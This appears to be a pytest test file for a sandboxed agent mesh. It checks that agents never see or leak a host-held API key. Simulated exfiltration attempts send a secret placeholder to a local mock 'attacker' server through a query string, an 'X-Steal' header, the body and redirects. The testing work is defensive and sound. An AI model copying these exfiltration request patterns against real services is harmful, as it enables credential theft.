"""Issue 10, secrets stay on the host: an agent that tries to exfiltrate a host-held secret gets
the placeholder back, never the value, whichever way it tries.

One host holds the secret; a real local HTTP server (and a second one, the attacker's) records
what reached it. After each attempt every message of every stream (journals, state, inboxes,
outboxes, logs, publishes) is read back and searched for the secret's bytes.
"""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import cbor2
import pytest
from httpkit import LocalHttp, local_http
from nats.js.errors import APIError, NotFoundError

from dagr_wasm.manifest import Manifest
from dagr_wasm.mesh import EmbeddedServer, Host, HostConfig, HttpPolicy, Mesh, Role
from dagr_wasm.policy import Grants, HttpGrant
from dagr_wasm.sandbox import Sandbox

pytestmark = pytest.mark.asyncio(loop_scope="session")

SECRET = "sk-live-" + uuid.uuid4().hex
PLACEHOLDER = "{{secret:API_KEY}}"


@pytest.fixture
async def secret_host(fresh_nats_server: EmbeddedServer, sandbox: Sandbox) -> AsyncIterator[Mesh]:
    admin = await Mesh.connect(fresh_nats_server.options(Role.ADMIN))
    await admin.ensure_layout()
    client = await Mesh.connect(fresh_nats_server.options(Role.HOST))
    policy = HttpPolicy(secrets={"API_KEY": SECRET}, allow_private=True)
    host = Host(client.nc, client.js, sandbox, HostConfig(host_id="secret-host", http=policy))
    task = asyncio.create_task(host.run())
    try:
        await asyncio.wait_for(host.ready.wait(), timeout=30)
        yield admin
    finally:
        await host.stop()
        await task
        await client.close()
        await admin.close()


@pytest.fixture
def servers() -> AsyncIterator[tuple[LocalHttp, LocalHttp]]:
    with local_http() as granted, local_http() as attacker:
        yield granted, attacker


async def run_fetcher(
    mesh: Mesh, built: dict[str, Path], grants: Grants, spec: dict[str, Any]
) -> dict[str, Any]:
    name = f"exfil-{uuid.uuid4().hex[:8]}"
    grants = grants.model_copy(update={"publish": ("agents.main.fetched",)})
    await mesh.deploy(Manifest(name=name, grants=grants), built["fetcher"].read_bytes())
    instance = await mesh.spawn(name, json.dumps({**spec, "publish": "agents.main.fetched"}))
    result = await mesh.result(instance, wait=True, timeout_s=60)
    assert result is not None and result.ok is not None, result
    report: dict[str, Any] = cbor2.loads(result.ok)
    return report


async def assert_nowhere_stored(mesh: Mesh, secret: str = SECRET) -> int:
    """No stream holds ``secret``, in any message's body or headers; returns how many were read."""
    read = 0
    for info in await mesh.js.streams_info():
        for seq in range(info.state.first_seq, info.state.last_seq + 1):
            try:
                msg = await mesh.js.get_msg(info.config.name, seq=seq, direct=bool(info.config.allow_direct))
            except NotFoundError:
                continue
            except APIError as exc:  # a deleted or expired message (direct get answers 408 for some)
                if exc.code in (404, 408):
                    continue
                raise
            read += 1
            assert secret.encode() not in (msg.data or b""), (info.config.name, msg.subject)
            assert secret not in json.dumps(msg.headers or {}), (info.config.name, msg.subject)
    return read


def got(server: LocalHttp, path: str) -> list[dict[str, Any]]:
    return [r for r in server.requests if r["path"] == path]


async def test_a_secret_echoed_back_by_the_server_reaches_the_agent_as_its_placeholder(
    secret_host: Mesh, built: dict[str, Path], servers: tuple[LocalHttp, LocalHttp]
) -> None:
    granted, _ = servers
    grants = Grants(http=(HttpGrant(url=f"{granted.url}/echo", secrets=("API_KEY",)),))
    headers = {"Authorization": f"Bearer {PLACEHOLDER}"}
    report = await run_fetcher(secret_host, built, grants, {"url": f"{granted.url}/echo", "headers": headers})
    # The server got the real key ...
    assert got(granted, "/echo")[0]["headers"]["Authorization"] == f"Bearer {SECRET}"
    # ... the agent saw only the placeholder, in the body and in the headers echoed back, and
    # so its result, state, log and publish (all in the streams) hold none of it.
    assert report["ok"] and PLACEHOLDER in report["body"] and SECRET not in json.dumps(report)
    assert ["x-echo-authorization", f"Bearer {PLACEHOLDER}"] in report["headers"]
    # The wire's length (of the body with the secret) is not passed on: it would tell the
    # secret's length, and it does not describe the body the agent got.
    assert "content-length" not in {name for name, _ in report["headers"]}
    assert await assert_nowhere_stored(secret_host) > 0


async def test_a_secret_is_not_put_in_for_a_url_it_is_not_granted_for(
    secret_host: Mesh, built: dict[str, Path], servers: tuple[LocalHttp, LocalHttp]
) -> None:
    granted, attacker = servers
    # The secret is granted for /echo on one server; the agent may also call the attacker's
    # server (granted, without the secret), and sends the placeholder there.
    grants = Grants(
        http=(
            HttpGrant(url=f"{granted.url}/echo", secrets=("API_KEY",)),
            HttpGrant(url=f"{attacker.url}/*"),
        )
    )
    spec = {"url": f"{attacker.url}/echo?k={PLACEHOLDER}", "headers": {"X-Steal": PLACEHOLDER}, "body": PLACEHOLDER,
            "method": "POST"}  # fmt: skip
    report = await run_fetcher(secret_host, built, grants, spec)
    assert report["ok"]
    (seen,) = got(attacker, "/echo")
    assert seen["headers"]["X-Steal"] == PLACEHOLDER and seen["body"] == PLACEHOLDER
    assert SECRET not in json.dumps(attacker.requests)
    assert await assert_nowhere_stored(secret_host) > 0


async def test_a_redirect_off_the_grant_is_not_followed(
    secret_host: Mesh, built: dict[str, Path], servers: tuple[LocalHttp, LocalHttp]
) -> None:
    granted, attacker = servers
    grants = Grants(http=(HttpGrant(url=f"{granted.url}/redirect", secrets=("API_KEY",)),))
    spec = {
        "url": f"{granted.url}/redirect?to={attacker.url}/echo",
        "headers": {"Authorization": PLACEHOLDER},
    }
    report = await run_fetcher(secret_host, built, grants, spec)
    assert (report["ok"], report["kind"]) == (False, "denied")
    assert "hop 1" in report["error"] and "not granted" in report["error"]
    assert attacker.requests == []  # the second hop never left the host
    assert await assert_nowhere_stored(secret_host) > 0


async def test_a_redirect_to_a_url_without_the_secret_grant_gets_the_placeholder(
    secret_host: Mesh, built: dict[str, Path], servers: tuple[LocalHttp, LocalHttp]
) -> None:
    granted, attacker = servers
    grants = Grants(
        http=(
            HttpGrant(url=f"{granted.url}/redirect", secrets=("API_KEY",)),
            HttpGrant(url=f"{attacker.url}/echo"),
        )
    )
    spec = {
        "url": f"{granted.url}/redirect?to={attacker.url}/echo",
        "headers": {"Authorization": PLACEHOLDER},
    }
    report = await run_fetcher(secret_host, built, grants, spec)
    assert report["ok"]
    assert got(granted, "/redirect")[0]["headers"]["Authorization"] == SECRET  # granted hop
    assert got(attacker, "/echo")[0]["headers"]["Authorization"] == PLACEHOLDER  # the next one
    assert await assert_nowhere_stored(secret_host) > 0


async def test_an_ungranted_url_is_refused_before_anything_is_sent(
    secret_host: Mesh, built: dict[str, Path], servers: tuple[LocalHttp, LocalHttp]
) -> None:
    granted, attacker = servers
    name = f"exfil-{uuid.uuid4().hex[:8]}"
    grants = Grants(http=(HttpGrant(url=f"{granted.url}/echo", secrets=("API_KEY",)),))
    await secret_host.deploy(Manifest(name=name, grants=grants), built["fetcher"].read_bytes())
    instance = await secret_host.spawn(name, json.dumps({"url": f"{attacker.url}/echo"}))
    result = await secret_host.result(instance, wait=True, timeout_s=60)
    assert result is not None and result.error is not None
    assert "not granted" in result.error and "grants.http" in result.error
    assert attacker.requests == [] and granted.requests == []
